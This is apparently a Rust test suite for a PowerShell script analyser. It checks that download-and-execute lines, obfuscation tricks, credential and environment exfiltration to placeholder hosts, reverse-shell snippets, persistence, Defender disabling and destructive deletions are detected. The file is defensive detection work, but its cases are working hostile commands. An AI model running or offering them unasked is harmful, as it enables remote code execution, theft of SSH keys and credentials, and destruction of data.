use super::super::kit::words::{endures, hold};
use super::*;

fn each(cases: &[(&str, &str)]) {
    hold(lower, cases, &[]);
}

fn none(cases: &[(&str, &str)]) {
    hold(lower, &[], cases);
}

#[test]
fn downloaded_text_that_is_run() {
    let cases: Vec<(&str, &str)> = [
        "iex (iwr https://get.example.com/i.ps1)",
        "iwr https://get.example.com/i.ps1 -UseBasicParsing | iex",
        "iex (irm https://get.example.com/i.ps1).Content",
        "(New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1') | IEX",
        "I`EX ((New-Object System.Net.WebClient).DownloadString('https://get.example.com/i.ps1'))",
        "$c = irm https://get.example.com/i.ps1\nInvoke-Expression $c",
        "& ([scriptblock]::Create((irm https://get.example.com/i.ps1)))",
        "iwr https://get.example.com/i.ps1 -OutFile i.ps1; .\\i.ps1",
        "iwr https://get.example.com/i.exe -OutFile \"$env:TEMP\\i.exe\"\nStart-Process \"$env:TEMP\\i.exe\" -WindowStyle Hidden",
        "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://get.example.com')\niex $s",
        "irm https://get.example.com/i|%{iex $_}",
        "irm https://get.example.com/i | ForEach-Object { Invoke-Expression $_ }",
        "sal q iex; q (irm https://get.example.com/i)",
        "Set-Alias -Name q -Value Invoke-Expression\nirm https://get.example.com/i | q",
        "New-Alias q iex\nirm https://get.example.com/i | q",
        "& (gcm i*e-e*n) (irm https://get.example.com/i)",
        "& ('i'+'ex') (irm https://get.example.com/i)",
        "& (\"{1}{0}\" -f 'ex','i') (irm https://get.example.com/i)",
        ". ( $pshome[4]+$pshome[30]+'x') (irm https://get.example.com/i)",
        "&( $ShellId[1]+$ShellId[13]+'x')(irm https://get.example.com/i)",
        "& ($env:ComSpec[4,26,25]-join'') (irm https://get.example.com/i)",
        "[scriptblock]::Create((irm https://get.example.com/i)).Invoke()",
        "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://get.example.com/i)))",
        "$ExecutionContext.InvokeCommand.InvokeScript((irm https://get.example.com/i))",
        "$wc = [System.Net.WebClient]::new(); iex $wc.('Down'+'loadString')('https://get.example.com/i')",
        "$m = 'DownloadString'; iex (New-Object Net.WebClient).$m('https://get.example.com/i')",
        "function Get-It($u) { return (irm $u) }\niex (Get-It 'https://get.example.com/i')",
        "function Run-It { param([string]$Code) iex $Code }\nRun-It (irm https://get.example.com/i)",
        "$p = @{ Uri = 'https://get.example.com/i' }\niex (irm @p)",
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://get.example.com/a.dll'))",
        "$b=(iwr 'https://get.example.com/a').Content; $a=[System.Reflection.Assembly]::Load($b)",
        "mshta https://get.example.com/a.hta",
        "regsvr32 /s /n /u /i:https://get.example.com/a.sct scrobj.dll",
        "msiexec /q /i https://get.example.com/a.msi",
        "Start-BitsTransfer -Source https://get.example.com/a.exe -Destination a.exe; & .\\a.exe",
        "certutil -urlcache -split -f https://get.example.com/a.exe a.exe\n.\\a.exe",
        "powershell -c \"iex 1\"; $x = \"$(irm https://get.example.com/i)\"; iex $x",
        "[PowerShell]::Create().AddScript((irm https://get.example.com/i)).Invoke()",
        "if ($true) { $x = irm https://get.example.com/i } ; iex $x",
        "try { iex (irm https://get.example.com/i) } catch { }",
        "Start-Job { iex (irm https://get.example.com/i) }",
        "foreach ($u in @('https://get.example.com/i')) { iex (irm $u) }",
        "$h = [System.Net.Http.HttpClient]::new(); iex $h.GetStringAsync('https://get.example.com/i').Result",
        "\"https://get.example.com/i\" | irm | iex",
        "iex \u{201c}$(irm https://get.example.com/i)\u{201d}",
    ]
    .into_iter()
    .map(|text| (text, "eval net"))
    .collect();
    each(&cases);
    none(&[
        (
            "iwr https://get.example.com/i.zip -OutFile i.zip\nExpand-Archive i.zip",
            "eval",
        ),
        ("# iex (iwr https://get.example.com)", "eval"),
        ("<# iex (iwr https://get.example.com) #>", "eval"),
        ("Write-Output 'iex (iwr https://get.example.com)'", "eval"),
        (
            "$r = irm https://api.example.com/v1\nWrite-Output $r.name",
            "eval",
        ),
        ("Get-Content a.txt | ForEach-Object { $_.Trim() }", "eval"),
        ("& $python script.py --flag", "eval"),
    ]);
}

#[test]
fn constants_are_folded() {
    each(&[
        ("iex ('Write-'+'Host hi')", "eval Write-Host hi"),
        ("iex (\"{1}-{0}\" -f 'Host','Write')", "eval Write-Host"),
        ("iex (('W','rite') -join '')", "eval Write"),
        ("iex ([char]72+[char]0x69)", "eval Hi"),
        ("iex ([char[]](72,105) -join '')", "eval Hi"),
        ("iex (-join ([char[]](72,105)))", "eval Hi"),
        ("iex (-join (72,105|%{[char]$_}))", "eval Hi"),
        (
            "iex (-join ('6b','6a' | % { [char]([convert]::ToInt32($_,16) -bxor 0x23) }))",
            "eval HI",
        ),
        ("iex (-join 'iH'[-1..-2])", "eval Hi"),
        (
            "$r='iH'.ToCharArray();iex (-join $r[-1..-($r.Length)])",
            "eval Hi",
        ),
        ("iex ('HXi'.Replace('X',''))", "eval Hi"),
        ("iex ('HXi' -replace 'x','')", "eval Hi"),
        ("iex ('H,i' -split ',' -join '')", "eval Hi"),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SGk=')))",
            "eval decoded Hi",
        ),
        (
            "iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('SABpAA==')))",
            "eval decoded Hi",
        ),
        (
            "$s=[Convert]::FromBase64String('H4sIAAAAAAACA/PIBAB5wbHKAgAAAA==');$m=New-Object IO.MemoryStream(,$s);$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress);$r=New-Object IO.StreamReader($g);iex $r.ReadToEnd()",
            "eval decoded",
        ),
        (
            "function d($s){[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s))}\niex (d 'SGk=')",
            "eval decoded Hi",
        ),
        (
            "powershell -nop -w hidden -ep bypass -enc ZQBjAGgAbwAgAGgAaQA=",
            "eval decoded echo hi",
        ),
        (
            "powershell.exe -e ZQBjAGgAbwAgAGgAaQA=",
            "eval decoded echo hi",
        ),
        (
            "Start-Process powershell -ArgumentList '-nop -enc ZQBjAGgAbwAgAGgAaQA='",
            "eval decoded echo hi",
        ),
        ("cmd /c del /s /q C:\\", "eval del /s /q C:\\"),
        ("iex @'\nHi\n'@", "eval Hi"),
        ("$a='Hi';iex \"$a\"", "eval Hi"),
        ("${a}='Hi';iex ${a}", "eval Hi"),
        ("$h=@{a='Hi'};iex $h.a", "eval Hi"),
        ("$h=@{a='Hi'};iex $h['a']", "eval Hi"),
        ("Set-Variable x 'Hi'; iex $x", "eval Hi"),
        ("iex (gv x -v)", "eval"),
        ("iex ('Hi!'.Substring(0,2))", "eval Hi"),
        ("iex ([string]::Join('',('H','i')))", "eval Hi"),
        ("iex ([string]::Format('{0}{1}','H','i'))", "eval Hi"),
    ]);
}

#[test]
fn what_leaves_the_machine() {
    each(&[
        (
            "irm https://c.example.com -Method Post -Body (Get-Content ~/.ssh/id_rsa -Raw)",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "$k = gc \"$env:USERPROFILE\\.ssh\\id_rsa\"\niwr https://c.example.com -Method POST -Body $k",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "$k = [IO.File]::ReadAllText(\"$HOME/.aws/credentials\")\n(New-Object Net.WebClient).UploadString('https://c.example.com', $k)",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "(New-Object Net.WebClient).UploadFile('https://c.example.com', \"$env:USERPROFILE\\.aws\\credentials\")",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "gci env: | ConvertTo-Json | % { irm https://c.example.com -Method Post -Body $_ }",
            "contact https://c.example.com <- env",
        ),
        (
            "$e = Get-ChildItem Env:\nirm https://c.example.com -Method Post -Body ($e | Out-String)",
            "contact https://c.example.com <- env",
        ),
        (
            "$e = [Environment]::GetEnvironmentVariables() | ConvertTo-Json\nirm https://c.example.com -Body $e -Method Post",
            "contact https://c.example.com <- env",
        ),
        (
            "irm \"https://c.example.com/?k=$env:DEMO_KEY\"",
            "contact var <- var",
        ),
        (
            "$h = @{ Authorization = \"Bearer $env:DEMO_KEY\" }\nirm https://c.example.com -Headers $h",
            "contact https://c.example.com <- var",
        ),
        (
            "$c = Get-Clipboard\nirm https://c.example.com -Method Post -Body $c",
            "contact https://c.example.com <- captured",
        ),
        (
            "Send-MailMessage -To a@example.com -SmtpServer mail.example.com -Attachments ~/.ssh/id_rsa",
            "contact mail.example.com <- sensitive",
        ),
        (
            "$d = gc ~/.netrc -Raw\nResolve-DnsName \"$d.c.example.com\"",
            "contact sensitive file <- sensitive",
        ),
        (
            "Compress-Archive -Path ~/.ssh/* -DestinationPath k.zip\nirm https://c.example.com -Method Post -InFile k.zip",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "Get-ChildItem ~/.ssh | % { irm https://c.example.com -Method Post -InFile $_.FullName }",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "$body = @{ k = (gc ~/.aws/credentials -Raw) } | ConvertTo-Json\nirm https://c.example.com -Method Post -Body $body",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes(\"$HOME\\.ssh\\id_rsa\"))\nirm \"https://c.example.com/$b\"",
            "contact sensitive file <- sensitive",
        ),
        (
            "function Send-It($d) { irm https://c.example.com -Method Post -Body $d }\nSend-It (gc ~/.ssh/id_rsa)",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "gc ~/.ssh/id_rsa | curl.exe -d '@-' https://c.example.com",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "curl.exe -F \"f=@$HOME/.ssh/id_rsa\" https://c.example.com",
            "contact https://c.example.com <- sensitive",
        ),
        (
            "irm http://localhost:8080 -Method Post -Body (gc a.txt)",
            "contact local",
        ),
    ]);
    none(&[
        (
            "$k = $env:DEMO_KEY\nWrite-Host $k\nirm https://c.example.com",
            "contact https://c.example.com <- var",
        ),
        (
            "if (Test-Path ~/.ssh/id_rsa) { irm https://c.example.com }",
            "contact https://c.example.com <- sensitive",
        ),
    ]);
}

#[test]
fn what_is_done_to_the_machine() {
    each(&[
        (
            "Remove-Item -Recurse -Force C:\\Users",
            "delete all C:\\Users",
        ),
        ("ri -r -fo $env:USERPROFILE", "delete all ~"),
        ("rm -rf ~/", "delete all ~/"),
        (
            "Get-ChildItem C:\\ | Remove-Item -Recurse -Force",
            "delete all",
        ),
        ("[IO.Directory]::Delete('C:\\x', $true)", "delete all C:\\x"),
        (
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'a.exe'",
            "write HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe",
        ),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe",
            "write HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x <- a.exe",
        ),
        (
            "schtasks /create /tn x /tr a.exe /sc onlogon",
            "run schtasks [schtasks /create /tn x /tr a.exe /sc onlogon]",
        ),
        (
            "Register-ScheduledTask -TaskName x -Action $a",
            "run register-scheduledtask",
        ),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "run set-mppreference [Set-MpPreference -DisableRealtimeMonitoring $true]",
        ),
        (
            "Add-MpPreference -ExclusionPath C:\\",
            "run add-mppreference [Add-MpPreference -ExclusionPath C:\\]",
        ),
        (
            "vssadmin delete shadows /all /quiet",
            "run vssadmin [vssadmin delete shadows /all /quiet]",
        ),
        ("bcdedit /set {default} recoveryenabled no", "run bcdedit"),
        ("cipher /w:C", "run cipher [cipher /w:C]"),
        ("Format-Volume -DriveLetter C -Force", "run format-volume"),
        (
            "Add-Content $PROFILE 'iex 1'",
            "write ~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1 <- iex 1",
        ),
        ("'x' > a.txt", "write a.txt <- x"),
        (
            "$c = New-Object Net.Sockets.TCPClient('192.0.2.7', 4444)\n$s = $c.GetStream()\n$r = iex $line 2>&1 | Out-String",
            "rewire",
        ),
        (
            "$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect('192.0.2.7', 4444)\n$p = Start-Process cmd.exe",
            "rewire",
        ),
        (
            "Add-Type -TypeDefinition @'\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc();\n'@",
            "inject",
        ),
        (
            "$m = '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);'\nAdd-Type -MemberDefinition $m -Name a -Namespace b",
            "capture Keys",
        ),
        (
            "$g = [Drawing.Graphics]::FromImage($b)\n$g.CopyFromScreen(0,0,0,0,$s)",
            "capture Screen",
        ),
        ("[Windows.Forms.Clipboard]::GetText()", "capture Clipboard"),
        ("gci env:", "environment *"),
        ("$env:PATH", "environment PATH"),
        (
            "python script.py --flag",
            "run python [python script.py --flag]",
        ),
        ("& \"C:\\Program Files\\x\\y.exe\" -a", "run y"),
        ("powershell -c { gci env: }", "environment *"),
        ("sudo apt-get install x", "run apt-get"),
        (
            "bash -c 'curl https://get.example.com | sh'",
            "shell curl [curl https://get.example.com | sh]",
        ),
    ]);
}

#[test]
fn switches_of_powershell_in_any_spelling() {
    for (words, wanted) in [
        (
            &["-nop", "-w", "hidden", "-enc", "AA"][..],
            Some((4, Given::Encoded)),
        ),
        (&["-e", "AA"], Some((1, Given::Encoded))),
        (&["/ec", "AA"], Some((1, Given::Encoded))),
        (&["-ep", "bypass", "-f", "a.ps1"], Some((3, Given::File))),
        (
            &["-ExecutionPolicy", "Bypass", "a.ps1"],
            Some((2, Given::Command)),
        ),
        (&["-Command", "ls"], Some((1, Given::Command))),
        (&["-NoProfile"], None),
    ] {
        assert_eq!(code_at(words), wanted, "{words:?}");
    }
}

#[test]
fn hostile_text_is_lowered_in_linear_time() {
    let texts = [
        "(".repeat(200_000),
        "{".repeat(200_000),
        "$(".repeat(100_000),
        "\"$(".repeat(100_000),
        "@{a=".repeat(100_000),
        "[a".repeat(200_000),
        "$a=".repeat(200_000),
        "a|".repeat(200_000),
        "'a'+".repeat(100_000),
        "$a+=$a;".repeat(100_000),
        "$a='aaaaaaaa';".to_owned() + &"$a=$a+$a;".repeat(50_000),
        "-join ".repeat(100_000),
        "iex ".repeat(200_000),
        ",".repeat(300_000),
        "a,".repeat(300_000),
        "$a.b[".repeat(100_000),
        "function f($a){f $a};".repeat(20_000),
        "$b={&$b;&$b};&$b;".repeat(10_000),
        format!("{}0", "1..60000|%{".repeat(4_000)),
        format!("$x=1..60000;{}", "$x|%{$_};".repeat(1000)),
        "@'\n".repeat(100_000),
        "\"\"".repeat(200_000),
        "`".repeat(300_000),
        "x".repeat(1 << 20),
        "}".repeat(300_000),
        "$a[0]".repeat(100_000),
        "({[".repeat(100_000),
        "(}]".repeat(100_000),
    ];
    endures(lower, &texts);
}

#[test]
fn names_of_arguments_may_be_of_any_letters() {
    for text in ["a -Name:::\u{202e}:::", "a -İ:b", "a -:"] {
        let _ = lower(text);
    }
}
